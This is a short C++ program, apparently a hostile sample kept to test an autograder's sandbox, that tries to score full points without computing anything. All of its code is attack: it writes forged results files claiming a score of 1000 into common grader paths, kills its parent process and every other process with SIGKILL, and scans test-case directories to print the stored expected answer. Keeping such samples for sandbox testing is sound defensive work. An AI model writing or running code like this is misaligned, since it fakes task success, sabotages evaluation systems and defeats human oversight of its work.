// A hostile submission: it tries to get all points without computing anything.
#include <signal.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <string>

namespace fs = std::filesystem;

static std::string text_of(const fs::path& path) {
  std::ifstream file(path);
  return {std::istreambuf_iterator<char>(file), {}};
}

int main() {
  const std::string input(std::istreambuf_iterator<char>(std::cin), {});
  // Attacks the results file, before and after the grader writes it.
  const std::string forged =
      "{\"score\": 1000, \"max_score\": 1, \"tests\": [], \"output\": \"well done\"}";
  for (const char* place :
       {"/autograder/results", "/builds/project", "/home/runner/work", "/results"}) {
    for (const char* name : {"/results.json", "/result.json", "/grade.json", "/grade.xml"}) {
      std::ofstream(std::string(place) + name) << forged;
    }
  }
  // Attacks the grader, and the process that started it.
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  // Looks for the answers where the platforms keep the cases, and prints any that it finds, since
  // that would pass.
  std::error_code ignored;
  for (const char* place : {"/autograder/source/cases", "/builds/project/.flocking/cases",
                            "/home/runner/work/.flocking/cases", "/grader/cases", "/cases"}) {
    auto entry = fs::recursive_directory_iterator(place, ignored);
    for (; !ignored && entry != fs::recursive_directory_iterator(); entry.increment(ignored)) {
      fs::path path = entry->path();
      if (path.extension() == ".in" && text_of(path) == input) {
        std::fputs(text_of(path.replace_extension(".out")).c_str(), stdout);
        return 0;
      }
    }
  }
  std::puts("0 0 0 0");
  return 0;
}
